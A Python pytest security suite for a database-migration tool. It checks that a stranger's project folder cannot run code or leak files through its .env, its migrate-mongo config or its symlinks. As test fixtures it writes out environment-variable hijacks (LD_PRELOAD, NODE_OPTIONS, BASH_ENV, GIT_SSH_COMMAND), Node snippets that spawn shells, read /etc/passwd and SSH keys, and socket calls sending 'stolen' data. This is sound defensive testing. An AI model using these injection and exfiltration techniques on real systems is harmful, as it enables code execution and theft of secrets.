"""An adopted folder from a stranger: what its `.env`, its configuration, its links and odd files may do. Its migrations
are the user's to read and run; nothing else of it is run or followed without being asked for."""

from __future__ import annotations

import json
import os
import socket
import subprocess
from pathlib import Path

import pytest

from backend.core.steering import is_steering, without_steering
from tests.kit import ChannelFailed, Toolkit
from tests.security.marks import Mark, library, tree

FILE = "20260101000000_users.sql"
SQL = "-- migrate:up\nCREATE TABLE users (id INTEGER);\n\n-- migrate:down\nDROP TABLE users;\n"
SCRIPT = """module.exports = {
  async up(db) { await db.createCollection("users"); },
  async down(db) { await db.collection("users").drop(); },
};
"""


@pytest.fixture
def mark(tmp_path: Path) -> Mark:
    return Mark(tmp_path / "attacker")


def steering(mark: Mark) -> dict[str, str]:
    """Variables by which a file of the attacker's gets loaded or run by somebody's tool."""
    folder = mark.path.parent
    for name in ("dbmate", "node", "pg_dump", "git", "mariadb-dump", "sqlite3"):
        path = folder / name
        path.write_text(mark.script.read_text())
        path.chmod(0o755)
    preload = folder / "evil.cjs"
    preload.write_text(f"require('node:fs').writeFileSync({json.dumps(str(mark.path))}, '')\n")
    (folder / "service").write_text("[x]\nhost=/tmp\n")
    made = library(folder, mark)
    return {
        **(
            {"LD_PRELOAD": str(made), "LD_AUDIT": str(made), "DYLD_INSERT_LIBRARIES": str(made)}
            if made
            else {}
        ),
        "LD_LIBRARY_PATH": str(folder),
        "PATH": str(folder),
        "NODE_OPTIONS": f"--require {preload}",
        "NODE_PATH": str(folder),
        "BASH_ENV": str(mark.script),
        "OPENSSL_CONF": str(folder / "openssl.cnf"),
        "GIT_SSH_COMMAND": str(mark.script),
        "GIT_EXTERNAL_DIFF": str(mark.script),
        "PGSERVICEFILE": str(folder / "service"),
        "PGSERVICE": "x",
        "PGPASSFILE": str(folder / "service"),
        "PYTHONSTARTUP": str(mark.script),
        "HOME": str(folder),
        "DBMATE_STRICT": "true",
    }


def env_text(variables: dict[str, str]) -> str:
    return "".join(f'{name}="{value}"\n' for name, value in variables.items())


@pytest.mark.parametrize("server", ["sqlite_url", "postgres_url"])
def test_an_env_file_loads_no_code_into_dbmate(
    toolkit: Toolkit, tmp_path: Path, mark: Mark, server: str, request: pytest.FixtureRequest
) -> None:
    root = tmp_path / "project"
    (root / "db" / "migrations").mkdir(parents=True)
    (root / "db" / "migrations" / FILE).write_text(SQL)
    url = request.getfixturevalue(server)
    (root / ".env").write_text(env_text({"DATABASE_URL": url, **steering(mark)}))
    mark.clear()
    shop = toolkit.adopt(root)
    assert shop.up()["ok"] and shop.down()["ok"]
    shop.call("schema:dump")
    shop.call("schema:catalog")
    assert not mark.is_left, "a variable of the project's .env has started something"


def test_an_env_file_loads_no_code_into_node(
    toolkit: Toolkit, tmp_path: Path, mark: Mark, mongodb_url: str
) -> None:
    root = tmp_path / "project"
    (root / "migrations").mkdir(parents=True)
    (root / "migrations" / "20260101000000-users.js").write_text(SCRIPT)
    (root / "migrate-mongo-config.js").write_text(
        f"module.exports = {{ mongodb: {{ url: {json.dumps(mongodb_url)} }}, migrationsDir: 'migrations' }};\n"
    )
    (root / ".env").write_text(env_text(steering(mark)))
    mark.clear()
    shop = toolkit.adopt(root)
    assert shop.up()["ok"] and shop.tables() >= {"users"}
    assert not mark.is_left, "a variable of the project's .env has started something"


def test_the_tools_get_nothing_that_steers_them_but_what_the_app_sets(
    toolkit: Toolkit, tmp_path: Path
) -> None:
    (tmp_path / "project").mkdir()
    (tmp_path / "project" / FILE).write_text(SQL)
    (tmp_path / "project" / ".env").write_text(
        "DATABASE_URL=sqlite:a.db\nLD_PRELOAD=x\nld_preload=x\nNODE_OPTIONS=x\nPATH=x\nNODE_ENV=test\nSTAGE=blue\n"
    )
    shop = toolkit.adopt(tmp_path / "project")
    connections = toolkit.services.connections
    env = connections.target(connections.resolve(shop.id)).env
    assert env == {"DATABASE_URL": "sqlite:a.db", "NODE_ENV": "test", "STAGE": "blue"}
    shop.call("connection:set-variable", name="NODE_OPTIONS", value="--max-old-space-size=4096")
    env = connections.target(connections.resolve(shop.id)).env
    assert env["NODE_OPTIONS"] == "--max-old-space-size=4096", "what the user sets here is the user's"


@pytest.mark.parametrize(
    "name", ["LD_PRELOAD", "Node_Options", "PATH", "DYLD_INSERT_LIBRARIES", "GIT_SSH_COMMAND", "PYTHONPATH"]
)
def test_steering_names_are_known(name: str) -> None:
    assert is_steering(name) and without_steering({name: "x", "STAGE": "y"}) == {"STAGE": "y"}


@pytest.mark.parametrize(
    "name", ["NODE_ENV", "ENV", "PGHOST", "DATABASE_URL", "MYSQL_PWD", "APP_PATH", "HOMEPAGE", "TEMPLATE"]
)
def test_what_projects_need_is_passed_on(name: str) -> None:
    assert not is_steering(name)


# -- the configuration is a program ----------------------------------------------------------------------------------

ATTACKS = {
    "writes a file": "require('node:fs').writeFileSync(MARK, '')",
    "starts a program": "require('node:child_process').execSync(`touch ${MARK}`)",
    "starts a thread": "new (require('node:worker_threads').Worker)(`require('fs').writeFileSync('${MARK}','')`, {eval: true})",
    "loads a native module": "process.dlopen({ exports: {} }, LIBRARY)",
    "asks the binding": "process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', SCRIPT], stdio: [] })",
    "opens the debugger": "require('node:inspector').open(0)",
    "writes through a stream": "require('node:fs').createWriteStream(MARK).end('x')",
    "links": "require('node:fs').symlinkSync('/etc/passwd', MARK)",
    "overrides the events": "require('node:fs').cpSync('/etc/passwd', MARK)",
}


def hostile_config(root: Path, mark: Mark, attack: str) -> None:
    made = library(mark.path.parent, mark)
    (root / "migrations").mkdir(parents=True)
    (root / "migrations" / "20260101000000-users.js").write_text(SCRIPT)
    words = {"MARK": str(mark.path), "SCRIPT": str(mark.script), "LIBRARY": str(made or "/nowhere.so")}
    constants = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in words.items())
    (root / "migrate-mongo-config.js").write_text(
        f"{constants}try {{ {attack} }} catch (error) {{ }}\n"
        "module.exports = { mongodb: { url: 'mongodb://localhost:1/x' }, migrationsDir: 'migrations' };\n"
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_looking_at_a_folder_runs_its_configuration_sealed(
    toolkit: Toolkit, tmp_path: Path, mark: Mark, attack: str
) -> None:
    root = tmp_path / "project"
    hostile_config(root, mark, ATTACKS[attack])
    (root / ".env").write_text(
        "NODE_OPTIONS=--allow-child-process --allow-fs-write=* --allow-worker --allow-addons\n"
    )
    mark.clear()
    before = tree(root)
    report = toolkit.call("connection:inspect-folder", path=str(root))
    assert report["tool"] == "migrate-mongo" and report["files"] == 1
    assert report["program"] == "migrate-mongo-config.js", "the user is told before adopting"
    toolkit.call("migration:detect-type", path=str(root))
    toolkit.call("migration:detect-type", path=str(root / "migrations" / "20260101000000-users.js"))
    assert not mark.is_left and tree(root) == before


def test_a_configuration_that_is_only_looked_at_reads_nothing_of_the_users(
    toolkit: Toolkit, tmp_path: Path, mark: Mark
) -> None:
    """What it read would be in the report: it can name the URL."""
    root, secret = tmp_path / "project", tmp_path / "id_rsa"
    secret.write_text("q8privatekey")
    (root / "migrations").mkdir(parents=True)
    (root / "migrations" / "20260101000000-users.js").write_text(SCRIPT)
    (root / "own.txt").write_text("owntext")
    read = "(path) => { try { return require('node:fs').readFileSync(path, 'utf8') } catch (error) { return error.code } }"
    (root / "migrate-mongo-config.js").write_text(
        f"const read = {read};\nconst told = [{json.dumps(str(secret))}, '/etc/passwd', './own.txt'];\n"
        "module.exports = { mongodb: { url: 'mongodb://localhost/x?appName=' + told.map(read).join('-') } };\n"
    )
    url = toolkit.call("connection:inspect-folder", path=str(root))["url"]
    assert "owntext" in url and "ERR_ACCESS_DENIED" in url
    assert "q8privatekey" not in url and "root:" not in url


CALLS = {
    "fetch": "fetch(URL).catch(() => 0)",
    "http": "require('node:http').get(URL).on('error', () => 0)",
    "net": "require('node:net').connect(PORT, '127.0.0.1').on('error', () => 0).end('stolen')",
    "net, made by hand": "new (require('node:net').Socket)().connect(PORT, '127.0.0.1').end('stolen')",
    "net, of the process": "process.getBuiltinModule('net').createConnection(PORT).end('stolen')",
    "net, by tls": "require('node:tls').connect(PORT).on('error', () => 0)",
    "net, by http2": "require('node:http2').connect(URL).on('error', () => 0)",
    "net, imported": "import('node:net').then((net) => net.connect(PORT, '127.0.0.1').end('stolen')).catch(() => 0)",
    "net, put back": "delete require('node:net').Socket.prototype.connect; require('node:net').connect(PORT, '127.0.0.1')",
    "WebSocket": "new WebSocket(URL.replace('http', 'ws'))",
    "the driver": "new (require('mongodb').MongoClient)(URL.replace('http', 'mongodb')).connect().catch(() => 0)",
}


@pytest.mark.parametrize("call", CALLS)
def test_a_configuration_that_is_only_looked_at_reaches_nobody(
    toolkit: Toolkit, tmp_path: Path, call: str
) -> None:
    """Node's permissions follow links out of the folder: what is read there must not get away."""
    root = tmp_path / "project"
    (root / "migrations").mkdir(parents=True)
    (root / "migrations" / "20260101000000-users.js").write_text(SCRIPT)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        config = (
            f"const PORT = {port}, URL = 'http://127.0.0.1:{port}/stolen';\n"
            f"const wait = new Promise((done) => setTimeout(done, 300));\ntry {{ {CALLS[call]} }} catch (error) {{ }}\n"
            "module.exports = wait.then(() => ({ mongodb: { url: 'mongodb://localhost/x' } }));\n"
        )
        (root / "migrate-mongo-config.js").write_text(config)
        assert toolkit.call("connection:inspect-folder", path=str(root))["tool"] == "migrate-mongo"
        listener.settimeout(0)
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_adopting_is_the_consent_to_run_it(toolkit: Toolkit, tmp_path: Path, mark: Mark) -> None:
    root = tmp_path / "project"
    hostile_config(root, mark, ATTACKS["writes a file"])
    mark.clear()
    toolkit.adopt(root)
    assert mark.is_left, "an adopted project's configuration runs as migrate-mongo runs it"


# -- odd files ---------------------------------------------------------------------------------------------------------


def test_a_pipe_a_device_and_a_loop_among_the_migrations_hold_nothing_up(
    toolkit: Toolkit, tmp_path: Path
) -> None:
    root = tmp_path / "migrations"
    root.mkdir()
    (root / FILE).write_text(SQL)
    os.mkfifo(root / "20260102000000_pipe.sql")
    (root / "20260103000000_zero.sql").symlink_to("/dev/zero")
    (root / "20260104000000_loop.sql").symlink_to("20260104000000_loop.sql")
    (root / "20260105000000_gone.sql").symlink_to("/nowhere/at/all.sql")
    (root / "20260106000000_folder.sql").mkdir()
    shop = toolkit.connect(f"sqlite:{tmp_path / 'a.db'}", migrations_dir=str(root))
    names = {one["name"] for one in shop.status()["migrations"]}
    assert "users" in names
    shop.call("migration:list")
    shop.call("migration:list", query="users")
    for name in ("20260102000000_pipe.sql", "20260103000000_zero.sql", "20260104000000_loop.sql"):
        answer = toolkit.envelope("migration:read", connection=shop.id, version=name)
        assert answer["ok"] or answer["error"]["code"] != "internal_error", (name, answer)
    assert shop.up(versions=["20260101000000"])["ok"]


def test_a_link_among_the_migrations_is_read_and_its_target_left_alone(
    toolkit: Toolkit, tmp_path: Path
) -> None:
    """dbmate runs linked files, so they are shown; they are never removed or replaced by way of the link's name."""
    root, outside = tmp_path / "migrations", tmp_path / "outside.sql"
    root.mkdir()
    outside.write_text(SQL)
    outside.chmod(0o640)
    (root / FILE).symlink_to(outside)
    shop = toolkit.connect(f"sqlite:{tmp_path / 'a.db'}", migrations_dir=str(root))
    assert shop.statuses() == {"users": "pending"}
    shop.call("migration:update", version=FILE, name="people")
    assert outside.read_text() == SQL and (root / FILE.replace("users", "people")).is_symlink()
    shop.agree("migration:delete", version=FILE.replace("users", "people"))
    assert outside.read_text() == SQL and outside.stat().st_mode & 0o777 == 0o640
    assert list(root.iterdir()) == []


def test_a_link_to_a_file_that_is_no_migration_is_no_way_to_read_it_aloud(
    toolkit: Toolkit, tmp_path: Path
) -> None:
    """The user may look at it, as with any editor; it does not run, and no export carries it away."""
    root = tmp_path / "migrations"
    root.mkdir()
    (root / FILE).symlink_to("/etc/passwd")
    shop = toolkit.connect(f"sqlite:{tmp_path / 'a.db'}", migrations_dir=str(root))
    (one,) = shop.status()["migrations"]
    assert "invalid" in one["flags"]
    with pytest.raises(ChannelFailed) as failure:
        shop.up()
    assert failure.value.code == "migration_invalid" and "root:" not in str(failure.value.details)
    for channel, more in (("history:export", {"format": "json"}), ("analytics:report", {"format": "json"})):
        answer = toolkit.envelope(channel, **more)
        assert "root:x" not in json.dumps(answer), channel


def test_a_links_loop_of_folders_ends(toolkit: Toolkit, tmp_path: Path) -> None:
    root = tmp_path / "project"
    root.mkdir()
    (root / "db").symlink_to(root)
    (root / "migrations").symlink_to(root / "migrations")
    for channel in ("connection:inspect-folder", "migration:detect-type", "app:folders"):
        answer = toolkit.envelope(channel, path=str(root))
        assert answer["ok"] or answer["error"]["code"] in {"not_found", "invalid_request"}, (channel, answer)


def test_a_compiler_is_here_to_build_the_attack() -> None:
    """Without one the LD_PRELOAD attack would not be tried."""
    assert subprocess.run(["cc", "--version"], capture_output=True).returncode == 0
